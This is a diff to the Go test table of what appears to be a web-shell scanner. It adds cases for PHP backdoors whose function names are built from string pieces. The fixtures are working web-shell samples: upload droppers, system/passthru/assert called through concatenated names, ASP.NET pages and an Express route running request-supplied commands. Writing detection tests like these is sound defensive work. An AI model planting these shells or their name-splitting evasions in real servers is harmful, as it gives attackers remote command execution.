@@ -80,7 +80,8 @@ $data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])
 		{"dropper", "/var/www/html/up.php", `<?php move_uploaded_file($_FILES['f']['tmp_name'], $_POST['to']); ?>`, RuleWrite, "move_uploaded_file()"},
 		{"dropper to the current directory", "/var/www/html/up2.php", `<?php $t = $_FILES['f']['tmp_name']; $n = $_FILES['f']['name']; copy($t, $n); ?>`, RuleWrite, "copy()"},
 		{"file written from request values", "/var/www/html/w.php", `<?php $h = fopen($_POST['p'], 'w'); fwrite($h, $_POST['c']); fclose($h); ?>`, RuleWrite, "fopen()"},
-		{"run-time named function", "/var/www/html/rt.php", `<?php function cb($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); array_walk($a, 'cb'); ?>`, RuleDynamic, "$x()"},
+		{"run-time named function", "/var/www/html/rt.php", `<?php function cb($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = load_table(); array_walk($a, 'cb'); ?>`, RuleDynamic, "$x()"},
+		{"run-time name from a literal array", "/var/www/html/rt2.php", `<?php function cb($v, $k) { $x = $k . $v; $x($_POST['x']); } $a = array('ass' => 'ert'); array_walk($a, 'cb'); ?>`, RuleCode, "assert() via $x"},
 		{"ASMX web method", "/inetpub/wwwroot/s.asmx", "<%@ WebService Language=\"C#\" Class=\"S\" %>\nusing System.Web.Services;\npublic class S : WebService {\n[WebMethod]\npublic string R(string a, string b) { var p = new System.Diagnostics.ProcessStartInfo(a, b); return System.Diagnostics.Process.Start(p).StandardOutput.ReadToEnd(); }\n}\n", RuleCommand, "Process"},
 		{"ASP.NET form control", "/inetpub/wwwroot/t.aspx", "<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nvoid Go(object s, EventArgs e) { var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; p.StartInfo.Arguments = \"/c \" + box.Text; p.Start(); }\n</script>\n<form runat=\"server\"><asp:TextBox ID=\"box\" runat=\"server\" /><asp:Button runat=\"server\" OnClick=\"Go\" /></form>\n", RuleCommand, "Process.Start()"},
 		{"reflective assembly load", "/inetpub/wwwroot/r.aspx", `<%@ Page Language="C#" %><% byte[] d = System.Convert.FromBase64String(Context.Request["k"]); typeof(System.Reflection.Assembly).GetMethod("Load", new System.Type[] { typeof(byte[]) }).Invoke(null, new object[] { d }); %>`, RuleClassLoad, "reflected Load()"},
@@ -104,6 +105,12 @@ $data = enc(base64_decode($_POST['pass']), 'k'); if (isset($_SESSION['payload'])
 		{"documentation example", "/usr/share/doc/php-x/examples/demo.php", `<?php system($_GET['c']); ?>`, "", ""},
 		{"interpreter binary holding a PHP tag", "/usr/bin/php8.2", "\x7fELF\x02\x01\x01\x00\x00\x00\x00\x00\x00\x00\x00\x00\x03\x00>\x00<?php system($_GET['c']); ?>", "", ""},
 
+		{"name from a walked array's keys and values", "/var/www/html/w.php", `<?php function runner($part, $head) { $call = $head . $part; $call($_COOKIE['c']); } $pieces = ['sys' => 'tem']; array_walk($pieces, 'runner'); ?>`,
+			RuleCommand, "system() via $call (built from the literals the function is passed)"},
+		{"name from literal arguments", "/var/www/html/w2.php", `<?php function go($a, $b) { $f = $a . $b; $f($_POST['x']); } go('pass', 'thru'); go('str', 'len'); ?>`,
+			RuleCommand, "passthru()"},
+		{"name from a mapped array's values", "/var/www/html/w3.php", `<?php function h($p) { $g = 'as' . $p; $g($_REQUEST['q']); } $l = array('sert', 'tring'); array_map('h', $l); ?>`,
+			RuleCode, "assert()"},
 		{"function names in any case", "/var/www/html/m.php", "<?php $p = gEtEnV('HTTP_X_RUN'); pAsStHrU($p); ?>", RuleCommand, "passthru()"},
 		// Node.js
 		{"express route into exec", "/srv/app/server.js", "const express = require('express');\nconst { exec } = require('child_process');\nconst app = express();\napp.get('/health', (req, res) => {\n  const c = req.query.cmd;\n  if (c) { exec(c, (e, out) => res.send(out)); return; }\n  res.send('ok');\n});\n",
@@ -286,6 +293,17 @@ func TestNodeGate(t *testing.T) {
 	for _, tt := range tests {
 		if got := nodeLang("/srv/app/x.js", ".js", []byte(tt.src)) != nil; got != tt.want {
 			t.Errorf("nodeLang(%q) = %v, want %v", tt.src, got, tt.want)
+		}
+	}
+}
+
+// TestBuiltNamesOfHarmlessFunctions: a name built from literals the function is passed that
+// names no command or code runner stays a run-time name (WS-108 at most), never a command.
+func TestBuiltNamesOfHarmlessFunctions(t *testing.T) {
+	page := `<?php function fmt($k, $v) { $fn = 'str' . $k; return $fn($_GET['x']); } fmt('len', 1); fmt('rev', 2); $m = ['to' => 'upper']; array_walk($m, 'fmt'); ?>`
+	for _, f := range New().Analyze("/var/www/html/fmt.php", []byte(page)) {
+		if f.Rule == RuleCommand || f.Rule == RuleCode || f.Severity > audit.Medium {
+			t.Errorf("%s %s: %s", f.Rule, f.Severity, f.Title)
 		}
 	}
 }
